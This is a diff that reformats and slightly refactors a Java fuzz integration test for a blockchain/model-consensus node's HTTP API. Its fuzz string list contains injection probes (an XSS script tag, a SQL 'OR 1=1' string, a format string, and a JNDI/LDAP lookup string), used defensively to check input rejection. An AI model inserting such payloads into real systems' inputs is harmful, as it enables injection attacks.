@@ -14,10 +14,10 @@ import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.test.annotation.DirtiesContext;
 import org.springframework.test.context.TestPropertySource;
+import tools.jackson.databind.JsonNode;
 
 import ml.consensus.support.NodeClient.Answer;
 import ml.consensus.support.NodeIntegrationTest;
-import tools.jackson.databind.JsonNode;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -62,16 +62,19 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
     private int port;
 
     /** One generated request; {@code endpoint} is the route it aims at, for the summary. */
-    private record FuzzRequest(String endpoint, String method, String path, String contentType, byte[] body,
-                               boolean chunked) {
+    // A test value read once and compared by its fields, never used as a key: arrays are fine here.
+    @SuppressWarnings("ArrayRecordComponent")
+    private record FuzzRequest(
+            String endpoint, String method, String path, String contentType, byte[] body, boolean chunked) {
 
         boolean isWrite() {
             return method.equals("POST") && WRITES.contains(endpoint);
         }
 
         String describe() {
-            String shown = body == null ? "" : " body " + RawClient.abbreviate(new String(body, StandardCharsets.UTF_8)
-                    .replace("\n", "\\n"));
+            String shown = body == null
+                    ? ""
+                    : " body " + RawClient.abbreviate(new String(body, StandardCharsets.UTF_8).replace("\n", "\\n"));
             return method + " " + RawClient.abbreviate(path) + " [" + contentType + "]" + (chunked ? " chunked" : "")
                     + shown;
         }
@@ -126,15 +129,17 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         List<String> chunkRequests = new ArrayList<>();
         long started = System.nanoTime();
         while (sent < MAX_REQUESTS && System.nanoTime() - started < BUDGET_NANOS) {
-            FuzzRequest request = sent == 17 ? oversizedBody(false) : sent == 18 ? oversizedBody(true)
-                    : generator.next();
+            FuzzRequest request =
+                    sent == 17 ? oversizedBody(false) : sent == 18 ? oversizedBody(true) : generator.next();
             Answer answer;
             long requestStarted = System.nanoTime();
             try {
-                answer = raw.send(request.method(), request.path(), request.contentType(), request.body(),
-                        request.chunked());
-                millisByEndpoint.merge(request.method() + " " + request.endpoint(),
-                        (System.nanoTime() - requestStarted) / 1_000_000, Long::sum);
+                answer = raw.send(
+                        request.method(), request.path(), request.contentType(), request.body(), request.chunked());
+                millisByEndpoint.merge(
+                        request.method() + " " + request.endpoint(),
+                        (System.nanoTime() - requestStarted) / 1_000_000,
+                        Long::sum);
             } catch (IllegalStateException e) {
                 violations.add("no answer (connection failed)", request.describe() + " -> " + e.getMessage());
                 sent++;
@@ -142,7 +147,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
             }
             sent++;
             byStatus.merge(answer.status(), 1, Integer::sum);
-            byEndpoint.computeIfAbsent(request.method() + " " + request.endpoint(), k -> new TreeMap<>())
+            byEndpoint
+                    .computeIfAbsent(request.method() + " " + request.endpoint(), k -> new TreeMap<>())
                     .merge(answer.status(), 1, Integer::sum);
             check(request, answer, violations);
             chunkRequests.add(request.describe() + " -> " + answer.status());
@@ -151,20 +157,24 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
                 acceptedWrites++;
                 chunkWrites++;
                 if (request.endpoint().equals(APPLY) && answer.json() != null) {
-                    expectedModel = answer.json().get("metrics").get("model_hash_after").asString();
+                    expectedModel =
+                            answer.json().get("metrics").get("model_hash_after").asString();
                 }
                 if (request.endpoint().equals(PROPOSE) && answer.json() != null) {
                     // Read back what was accepted: a record the node cannot show is as bad as a 500.
                     String hash = answer.text("proposal", "proposal_hash");
                     generator.learn(hash);
-                    for (String path : List.of("/decentralized/proposals/" + hash,
+                    for (String path : List.of(
+                            "/decentralized/proposals/" + hash,
                             "/blocks/" + answer.number("proposal", "block_index"))) {
                         Answer back = raw.get(path);
                         readBacks++;
                         byStatus.merge(back.status(), 1, Integer::sum);
                         if (back.status() != 200) {
-                            violations.add("accepted proposal not readable", request.describe() + " then GET " + path
-                                    + " -> " + back.status() + " " + RawClient.abbreviate(back.raw()));
+                            violations.add(
+                                    "accepted proposal not readable",
+                                    request.describe() + " then GET " + path + " -> " + back.status() + " "
+                                            + RawClient.abbreviate(back.raw()));
                         }
                     }
                 }
@@ -180,13 +190,15 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         checkChunk(chunkStart, chunkWrites, expectedModel, chunkRequests, violations);
         long elapsedMillis = (System.nanoTime() - started) / 1_000_000;
 
-        System.out.printf("[fuzz] requests sent %d (+%d read-backs of accepted proposals) in %d ms%n", sent,
-                readBacks, elapsedMillis);
+        System.out.printf(
+                "[fuzz] requests sent %d (+%d read-backs of accepted proposals) in %d ms%n",
+                sent, readBacks, elapsedMillis);
         System.out.printf("[fuzz] by status: %s%n", byStatus);
-        byEndpoint.forEach((endpoint, statuses) -> System.out.printf("[fuzz]   %-42s %s, %d ms%n", endpoint, statuses,
-                millisByEndpoint.getOrDefault(endpoint, 0L)));
-        System.out.printf("[fuzz] writes legitimately accepted: %d; violations: %s%n", acceptedWrites,
-                violations.isEmpty() ? "none" : violations.counts);
+        byEndpoint.forEach((endpoint, statuses) -> System.out.printf(
+                "[fuzz]   %-42s %s, %d ms%n", endpoint, statuses, millisByEndpoint.getOrDefault(endpoint, 0L)));
+        System.out.printf(
+                "[fuzz] writes legitimately accepted: %d; violations: %s%n",
+                acceptedWrites, violations.isEmpty() ? "none" : violations.counts);
 
         assertThat(violations.isEmpty()).as("seed %d: %s", seed, violations).isTrue();
         assertSeedWorkflowStillWorks();
@@ -201,13 +213,23 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
      * UTF-8. Each must be answered 200 (an empty page) or 4xx, and a 4xx must be a problem.
      */
     @ParameterizedTest(name = "GET {0}")
-    @ValueSource(strings = {
-        "/blockchain-history?page=2147483647&size=1000", "/blockchain-history?page=2147484&size=1000",
-        "/decentralized/proposals?page=21474837", "/decentralized/proposals?page=2147483647&size=1000",
-        "/records/%2F", "/records/abcdef12%2F34", "/decentralized/proposals/%5C", "/records/%00abcdef12",
-        "/decentralized/proposals/%ED%A0%80", "/blockchain-history?=1", "/blockchain-history?page=0&=x",
-        "/model/nearest-to-text?text=%ED%A0%80fever", "/model/history?page=2147483647&size=1000",
-        "/model/history?page=0&=x"})
+    @ValueSource(
+            strings = {
+                "/blockchain-history?page=2147483647&size=1000",
+                "/blockchain-history?page=2147484&size=1000",
+                "/decentralized/proposals?page=21474837",
+                "/decentralized/proposals?page=2147483647&size=1000",
+                "/records/%2F",
+                "/records/abcdef12%2F34",
+                "/decentralized/proposals/%5C",
+                "/records/%00abcdef12",
+                "/decentralized/proposals/%ED%A0%80",
+                "/blockchain-history?=1",
+                "/blockchain-history?page=0&=x",
+                "/model/nearest-to-text?text=%ED%A0%80fever",
+                "/model/history?page=2147483647&size=1000",
+                "/model/history?page=0&=x"
+            })
     void shouldAnswerAnOddQueryWithAPageOrAProblem(String path) {
         LedgerSnapshot before = snapshot();
         Answer answer = new RawClient(port).get(path);
@@ -229,8 +251,7 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
     @ValueSource(strings = {"\\ud800 fever", "fever \\udfff", "\\udc00\\ud800 reversed pair fever"})
     void shouldRefuseATextHoldingALoneSurrogate(String escapedText) {
         LedgerSnapshot before = snapshot();
-        Answer answer = new RawClient(port).post(PROPOSE, "application/json",
-                "{\"texts\":[\"" + escapedText + "\"]}");
+        Answer answer = new RawClient(port).post(PROPOSE, "application/json", "{\"texts\":[\"" + escapedText + "\"]}");
         assertThat(answer.status()).as(answer.raw()).isEqualTo(400);
         RawClient.assertProblem(answer, "a proposal of \"" + escapedText + "\"");
         assertThat(snapshot()).isEqualTo(before);
@@ -251,7 +272,9 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
                 return;
             }
             JsonNode json = answer.json();
-            if (json == null || json.path("status").asInt() != status || !json.path("detail").isString()
+            if (json == null
+                    || json.path("status").asInt() != status
+                    || !json.path("detail").isString()
                     || json.path("detail").asString().isBlank()) {
                 violations.add("problem without a matching status or a non-empty detail", example);
             }
@@ -265,8 +288,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
     }
 
     /** The chain grew by exactly the accepted writes, and the model moved only with accepted applies. */
-    private void checkChunk(LedgerSnapshot start, int writes, String expectedModel, List<String> requests,
-                            Violations violations) {
+    private void checkChunk(
+            LedgerSnapshot start, int writes, String expectedModel, List<String> requests, Violations violations) {
         LedgerSnapshot end = snapshot();
         // Accepted writes may share blocks; refused ones add neither records nor blocks.
         boolean ok = end.totalRecords() == start.totalRecords() + writes
@@ -274,9 +297,12 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
                 && (writes > 0 || end.headHash().equals(start.headHash()))
                 && end.modelHash().equals(expectedModel);
         if (!ok) {
-            violations.add("refused requests changed the ledger or model", "chunk with " + writes
-                    + " accepted writes: before " + start + ", after " + end + ", expected model " + expectedModel
-                    + "; requests: " + requests);
+            violations.add(
+                    "refused requests changed the ledger or model",
+                    "chunk with " + writes
+                            + " accepted writes: before " + start + ", after " + end + ", expected model "
+                            + expectedModel
+                            + "; requests: " + requests);
         }
     }
 
@@ -289,7 +315,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         assertThat(applied.status()).as(applied.raw()).isEqualTo(200);
         LedgerSnapshot after = snapshot();
         assertThat(after.chainLength()).isEqualTo(before.chainLength() + 3);
-        assertThat(after.modelHash()).isEqualTo(applied.text("metrics", "model_hash_after"))
+        assertThat(after.modelHash())
+                .isEqualTo(applied.text("metrics", "model_hash_after"))
                 .isNotEqualTo(before.modelHash());
         Answer verify = node.get("/verify");
         assertThat(verify.json().get("valid").asBoolean()).as(verify.raw()).isTrue();
@@ -307,8 +334,10 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         List<String> hashes = new ArrayList<>(List.of(open, applied, rejected));
         long length = snapshot().chainLength();
         Answer blocks = node.get("/blocks?from=" + Math.max(0, length - 8) + "&size=8");
-        blocks.json().get("blocks").forEach(b -> b.get("records").forEach(r -> hashes.add(r.get("record_hash")
-                .asString())));
+        blocks.json()
+                .get("blocks")
+                .forEach(b -> b.get("records")
+                        .forEach(r -> hashes.add(r.get("record_hash").asString())));
         return hashes;
     }
 
@@ -335,39 +364,177 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
 
         private static final String HEX = "0123456789abcdef";
         private static final String NON_HEX = "ghijklmnopqrstuvwxyzGHIJKXYZ -_./\\%?#&=+:;,!@$'\"()[]{}<>~`|^*";
-        private static final String[] UNICODE_CHARS = {"é", "\u0000", "\uD83E\uDD12", "\u202E", "\u200F", "\uFF10",
-                "\u0301", "\uFEFF", "\u2028", "\u00A0", "ß", "İ", "\uD800", "\uDFFF", "\n", "\t"};
+        private static final String[] UNICODE_CHARS = {
+            "é",
+            "\u0000",
+            "\uD83E\uDD12",
+            "\u202E",
+            "\u200F",
+            "\uFF10",
+            "\u0301",
+            "\uFEFF",
+            "\u2028",
+            "\u00A0",
+            "ß",
+            "İ",
+            "\uD800",
+            "\uDFFF",
+            "\n",
+            "\t"
+        };
         /** String values as JSON source text (escapes are deliberate: lone surrogates cannot be sent raw). */
         private static final String[] STRINGS = {
-            "\"\"", "\" \"", "\"fever\"", "\"\\ud800\"", "\"\\udfff fever\"", "\"\\ud800\\ud800 cough\"",
-            "\"\\ud83e\\udd12 fever\"", "\"\uD83E\uDD12\uD83E\uDD12\"", "\"\uD83E\uDD12 fever and chills\"",
-            "\"\\u0000\"", "\"fever\\u0000cough\"", "\"\u202Efever\u202C rtl\"", "\"\u200F\u200E\"",
-            "\"\u05D7\u05D5\u05DD fever\"", "\"\u062D\u0645\u0649\"", "\"e\u0301\u0301\u0301\u0301 fever\"",
-            "\"Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u035C\"", "\"\uFB01ever\"",
-            "\"\uFF26\uFF25\uFF36\uFF25\uFF32\"", "\"\\uffff\\ufffe\"", "\"\\ufeff fever\"", "\"\u53D1\u70E7\"",
-            "\"\\n\\t\\r\\b\\f\"", "\"\\\"quoted\\\" fever\"", "\"\\\\\"", "\"<script>alert(1)</script>\"",
-            "\"' OR 1=1 --\"", "\"%s%n%x fever\"", "\"${jndi:ldap://x/a}\"", "\"\\u2028\\u2029\"",
-            "\"validator-alice\"", "\"NaN\"", "\"1e999\"", "\"null\"", "\"true\""};
+            "\"\"",
+            "\" \"",
+            "\"fever\"",
+            "\"\\ud800\"",
+            "\"\\udfff fever\"",
+            "\"\\ud800\\ud800 cough\"",
+            "\"\\ud83e\\udd12 fever\"",
+            "\"\uD83E\uDD12\uD83E\uDD12\"",
+            "\"\uD83E\uDD12 fever and chills\"",
+            "\"\\u0000\"",
+            "\"fever\\u0000cough\"",
+            "\"\u202Efever\u202C rtl\"",
+            "\"\u200F\u200E\"",
+            "\"\u05D7\u05D5\u05DD fever\"",
+            "\"\u062D\u0645\u0649\"",
+            "\"e\u0301\u0301\u0301\u0301 fever\"",
+            "\"Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u035C\"",
+            "\"\uFB01ever\"",
+            "\"\uFF26\uFF25\uFF36\uFF25\uFF32\"",
+            "\"\\uffff\\ufffe\"",
+            "\"\\ufeff fever\"",
+            "\"\u53D1\u70E7\"",
+            "\"\\n\\t\\r\\b\\f\"",
+            "\"\\\"quoted\\\" fever\"",
+            "\"\\\\\"",
+            "\"<script>alert(1)</script>\"",
+            "\"' OR 1=1 --\"",
+            "\"%s%n%x fever\"",
+            "\"${jndi:ldap://x/a}\"",
+            "\"\\u2028\\u2029\"",
+            "\"validator-alice\"",
+            "\"NaN\"",
+            "\"1e999\"",
+            "\"null\"",
+            "\"true\""
+        };
+
         private static final String[] NUMBERS = {
-            "0", "-0", "1", "-1", "0.01", "0.5", "1.0", "1e-320", "4.9e-324", "1e999", "-1e999", "1e-999", "NaN",
-            "-NaN", "Infinity", "-Infinity", "+1", ".5", "1.", "01", "0x10", "9223372036854775808",
-            "-9223372036854775809", "1.7976931348623157e308", "123456789012345678901234567890", "1.0000001",
-            "0.9999999999999999", "1E2", "1e+2", "2147483648", "-2147483649", "1" + "0".repeat(400)};
-        private static final String[] OTHERS = {"true", "false", "null", "[]", "{}", "[[[]]]", "{\"a\":{\"b\":[]}}",
-            "[null]", "[1,2,3]", "{\"texts\":[\"fever\"]}"};
+            "0",
+            "-0",
+            "1",
+            "-1",
+            "0.01",
+            "0.5",
+            "1.0",
+            "1e-320",
+            "4.9e-324",
+            "1e999",
+            "-1e999",
+            "1e-999",
+            "NaN",
+            "-NaN",
+            "Infinity",
+            "-Infinity",
+            "+1",
+            ".5",
+            "1.",
+            "01",
+            "0x10",
+            "9223372036854775808",
+            "-9223372036854775809",
+            "1.7976931348623157e308",
+            "123456789012345678901234567890",
+            "1.0000001",
+            "0.9999999999999999",
+            "1E2",
+            "1e+2",
+            "2147483648",
+            "-2147483649",
+            "1" + "0".repeat(400)
+        };
+        private static final String[] OTHERS = {
+            "true",
+            "false",
+            "null",
+            "[]",
+            "{}",
+            "[[[]]]",
+            "{\"a\":{\"b\":[]}}",
+            "[null]",
+            "[1,2,3]",
+            "{\"texts\":[\"fever\"]}"
+        };
         private static final String[] NUMBERISH = {
-            "-1", "0", "1", "2", "10", "100", "101", "999", "1000", "1001", "2147483647", "2147483648",
-            "-2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
-            "99999999999999999999", "1e3", "0x10", "", " 1", "1 ", "1.5", "NaN", "Infinity", "abc", "\uFF11",
-            "+5", "-0", "00000001", "1,2", "\u0000", "\uD83E\uDD12"};
+            "-1",
+            "0",
+            "1",
+            "2",
+            "10",
+            "100",
+            "101",
+            "999",
+            "1000",
+            "1001",
+            "2147483647",
+            "2147483648",
+            "-2147483648",
+            "-2147483649",
+            "9223372036854775807",
+            "9223372036854775808",
+            "-9223372036854775808",
+            "99999999999999999999",
+            "1e3",
+            "0x10",
+            "",
+            " 1",
+            "1 ",
+            "1.5",
+            "NaN",
+            "Infinity",
+            "abc",
+            "\uFF11",
+            "+5",
+            "-0",
+            "00000001",
+            "1,2",
+            "\u0000",
+            "\uD83E\uDD12"
+        };
         private static final String[] CONTENT_TYPES = {
-            "application/json; charset=UTF-8", "text/plain", "application/x-www-form-urlencoded", null,
-            "application/xml", "multipart/form-data; boundary=xyz", "application/json; charset=nope", "garbage",
-            "application/problem+json", "APPLICATION/JSON", "application/json;charset=utf-16", "*/*",
-            "application/octet-stream", "text/json", "application/json, text/plain"};
-        private static final String[] RECORD_TYPES = {"genesis", "training_proposal", "validator_approval",
-            "validator_rejection", "model_update_approved", "checkpoint_saved", "", "TRAINING_PROPOSAL", "nope",
-            "training_proposal ", "\u0000", "\uD83E\uDD12", "training_proposal,genesis"};
+            "application/json; charset=UTF-8",
+            "text/plain",
+            "application/x-www-form-urlencoded",
+            null,
+            "application/xml",
+            "multipart/form-data; boundary=xyz",
+            "application/json; charset=nope",
+            "garbage",
+            "application/problem+json",
+            "APPLICATION/JSON",
+            "application/json;charset=utf-16",
+            "*/*",
+            "application/octet-stream",
+            "text/json",
+            "application/json, text/plain"
+        };
+        private static final String[] RECORD_TYPES = {
+            "genesis",
+            "training_proposal",
+            "validator_approval",
+            "validator_rejection",
+            "model_update_approved",
+            "checkpoint_saved",
+            "",
+            "TRAINING_PROPOSAL",
+            "nope",
+            "training_proposal ",
+            "\u0000",
+            "\uD83E\uDD12",
+            "training_proposal,genesis"
+        };
 
         private final Random random;
         private final List<String> knownHashes;
@@ -411,10 +578,11 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
             byte[] body;
             int kind = random.nextInt(20);
             if (kind < 3) {
-                body = malformed(endpoint, fields);
+                body = malformed(fields);
             } else if (kind < 4) {
-                body = utf8(pick(new String[] {"[]", "\"x\"", "42", "null", "true", "[{\"texts\":[\"fever\"]}]",
-                    "{}", "[" + object(fields) + "]"}));
+                body = utf8(pick(new String[] {
+                    "[]", "\"x\"", "42", "null", "true", "[{\"texts\":[\"fever\"]}]", "{}", "[" + object(fields) + "]"
+                }));
             } else {
                 body = utf8(object(fields));
             }
@@ -428,9 +596,9 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         private FuzzRequest checkpoint() {
             // Any POST /save-checkpoint is a legitimate write; bodies and types vary but are not read.
             String contentType = random.nextBoolean() ? null : pick(CONTENT_TYPES);
-            byte[] body = random.nextBoolean() ? null : malformed(CHECKPOINT, List.of("texts"));
-            return new FuzzRequest(CHECKPOINT, "POST", CHECKPOINT + query(List.of("a", "page")), contentType, body,
-                    false);
+            byte[] body = random.nextBoolean() ? null : malformed(List.of("texts"));
+            return new FuzzRequest(
+                    CHECKPOINT, "POST", CHECKPOINT + query(List.of("a", "page")), contentType, body, false);
         }
 
         private FuzzRequest wrongMethod() {
@@ -439,17 +607,26 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
             if (method.equals("GET")) {
                 path = pick(WRITES.toArray(new String[0]));
             } else if (method.equals("POST")) {
-                path = pick(new String[] {"/decentralized/status", "/verify", "/export", "/model-info", "/blocks",
-                    "/blockchain-history", "/decentralized/proposals", "/blocks/0"});
+                path = pick(new String[] {
+                    "/decentralized/status",
+                    "/verify",
+                    "/export",
+                    "/model-info",
+                    "/blocks",
+                    "/blockchain-history",
+                    "/decentralized/proposals",
+                    "/blocks/0"
+                });
             } else {
-                path = pick(new String[] {PROPOSE, APPROVE, APPLY, CHECKPOINT, "/blocks/0", "/verify",
-                    "/decentralized/status"});
+                path = pick(new String[] {
+                    PROPOSE, APPROVE, APPLY, CHECKPOINT, "/blocks/0", "/verify", "/decentralized/status"
+                });
             }
             byte[] body = method.equals("GET") || method.equals("DELETE") ? null : utf8("{\"texts\":[\"fever\"]}");
             return new FuzzRequest(path, method, path, body == null ? null : "application/json", body, false);
         }
 
-        private byte[] malformed(String endpoint, List<String> fields) {
+        private byte[] malformed(List<String> fields) {
             String valid = object(fields);
             return switch (random.nextInt(16)) {
                 case 0 -> utf8(valid.substring(0, random.nextInt(Math.max(1, valid.length()))));
@@ -458,17 +635,35 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
                 case 3 -> utf8("{\"texts\":" + "[".repeat(10_000));
                 case 4 -> utf8("{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}");
                 case 5 -> utf8("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
-                case 6 -> utf8(pick(new String[] {"{texts: [\"fever\"]}", "{'texts': ['fever']}",
-                    "{\"texts\": [\"fever\",]}", "{\"texts\": [\"fever\"]}}", "{\"texts\" [\"fever\"]}",
-                    "/* comment */ {\"texts\": [\"fever\"]}", "{\"texts\": [\"fever\"]} // comment", "",
-                    "   \n\t ", "{", "}", "{\"proposal_hash\": \"abcdef12\"", "{\"texts\": [\"a\" \"b\"]}",
-                    "{\"texts\": [\"fever\"], }", "{,}", "{\"\":1}", "\"\\ud800\"", "{\"texts\":[\"\\uZZZZ\"]}",
-                    "{\"texts\":[\"\\x41\"]}", "{\"texts\":[\"fever\"]}\u0000", "{\"learning_rate\":0.1e}"}));
+                case 6 ->
+                    utf8(pick(new String[] {
+                        "{texts: [\"fever\"]}",
+                        "{'texts': ['fever']}",
+                        "{\"texts\": [\"fever\",]}",
+                        "{\"texts\": [\"fever\"]}}",
+                        "{\"texts\" [\"fever\"]}",
+                        "/* comment */ {\"texts\": [\"fever\"]}",
+                        "{\"texts\": [\"fever\"]} // comment",
+                        "",
+                        "   \n\t ",
+                        "{",
+                        "}",
+                        "{\"proposal_hash\": \"abcdef12\"",
+                        "{\"texts\": [\"a\" \"b\"]}",
+                        "{\"texts\": [\"fever\"], }",
+                        "{,}",
+                        "{\"\":1}",
+                        "\"\\ud800\"",
+                        "{\"texts\":[\"\\uZZZZ\"]}",
+                        "{\"texts\":[\"\\x41\"]}",
+                        "{\"texts\":[\"fever\"]}\u0000",
+                        "{\"learning_rate\":0.1e}"
+                    }));
                 case 7 -> invalidUtf8();
                 case 8 -> utf8("{\"texts\":[\"fever\u0001raw control\"]}");
                 case 9 -> utf8("{\"texts\":[\"fever\"],\"learning_rate\":" + pick(NUMBERS) + "}");
-                case 10 -> utf8("{\"texts\":[\"fever\"],\"learning_rate\":" + "1".repeat(1001 + random.nextInt(2000))
-                        + "}");
+                case 10 ->
+                    utf8("{\"texts\":[\"fever\"],\"learning_rate\":" + "1".repeat(1001 + random.nextInt(2000)) + "}");
                 case 11 -> concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(valid));
                 case 12 -> utf8(valid + valid);
                 case 13 -> utf8("{\"texts\":[\"fever\"]," + "\"k\":1,".repeat(5_000) + "\"z\":1}");
@@ -533,8 +728,19 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
             return switch (random.nextInt(8)) {
                 case 0 -> quote("validator-fuzz-" + random.nextInt(5));
                 case 1 -> quote("v".repeat(128 + random.nextInt(2)));
-                case 2 -> quote(pick(new String[] {"-validator", "validator alice", "validator/alice", "a", "",
-                    " ", "validator-alice\n", "validator\u0000", "valid\u00E9tor", "\uD83E\uDD12"}));
+                case 2 ->
+                    quote(pick(new String[] {
+                        "-validator",
+                        "validator alice",
+                        "validator/alice",
+                        "a",
+                        "",
+                        " ",
+                        "validator-alice\n",
+                        "validator\u0000",
+                        "valid\u00E9tor",
+                        "\uD83E\uDD12"
+                    }));
                 case 3 -> pick(NUMBERS);
                 default -> pick(STRINGS);
             };
@@ -551,7 +757,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
             if (dice < 9 || depth == 0) {
                 return pick(OTHERS);
             }
-            return random.nextBoolean() ? "[" + anyValue(depth - 1) + "," + anyValue(depth - 1) + "]"
+            return random.nextBoolean()
+                    ? "[" + anyValue(depth - 1) + "," + anyValue(depth - 1) + "]"
                     : "{" + pick(STRINGS) + ":" + anyValue(depth - 1) + "}";
         }
 
@@ -604,8 +811,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
                 case 3, 4 -> plain("/decentralized/proposals/" + segment(hashLike()), List.of("x"));
                 case 5, 6 -> plain("/blockchain-history", List.of("type", "page", "size"));
                 case 7 -> plain("/blocks", List.of("from", "size"));
-                case 8 -> plain("/blocks/" + segment(random.nextBoolean() ? pick(NUMBERISH) : hashLike()),
-                        List.of("x"));
+                case 8 ->
+                    plain("/blocks/" + segment(random.nextBoolean() ? pick(NUMBERISH) : hashLike()), List.of("x"));
                 case 9, 10 -> plain("/records/" + segment(hashLike()), List.of("x"));
                 case 11 -> plain("/records/" + segment(hashLike()) + "/proof", List.of("x"));
                 case 12, 13 -> plain("/model/nearest-words", List.of("word", "k"));
@@ -648,14 +855,15 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
         private String parameterValue(String name) {
             return switch (name) {
                 case "type" -> pick(RECORD_TYPES);
-                case "word", "text" -> switch (random.nextInt(6)) {
-                    case 0 -> "fever";
-                    case 1 -> "x".repeat(1999 + random.nextInt(3));
-                    case 2 -> pick(UNICODE_CHARS) + "fever" + pick(UNICODE_CHARS);
-                    case 3 -> "high fever and cough";
-                    case 4 -> "";
-                    default -> unquote(pick(STRINGS));
-                };
+                case "word", "text" ->
+                    switch (random.nextInt(6)) {
+                        case 0 -> "fever";
+                        case 1 -> "x".repeat(1999 + random.nextInt(3));
+                        case 2 -> pick(UNICODE_CHARS) + "fever" + pick(UNICODE_CHARS);
+                        case 3 -> "high fever and cough";
+                        case 4 -> "";
+                        default -> unquote(pick(STRINGS));
+                    };
                 default -> pick(NUMBERISH);
             };
         }
@@ -664,8 +872,13 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
 
         private byte[] invalidUtf8() {
             byte[][] bad = {
-                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC3}, {(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF},
-                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
+                {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+                {(byte) 0xC3},
+                {(byte) 0xFF},
+                {(byte) 0xC0, (byte) 0xAF},
+                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
+                {(byte) 0xE2, (byte) 0x82}
+            };
             return concat(utf8("{\"texts\":[\"fever "), concat(bad[random.nextInt(bad.length)], utf8("\"]}")));
         }
 
@@ -691,7 +904,8 @@ class FuzzIntegrationTests extends NodeIntegrationTest {
 
         private static String quote(String value) {
             StringBuilder out = new StringBuilder("\"");
-            for (char c : value.toCharArray()) {
+            for (int i = 0; i < value.length(); i++) {
+                char c = value.charAt(i);
                 if (c == '"' || c == '\\') {
                     out.append('\\').append(c);
                 } else if (c < 0x20 || Character.isSurrogate(c)) {
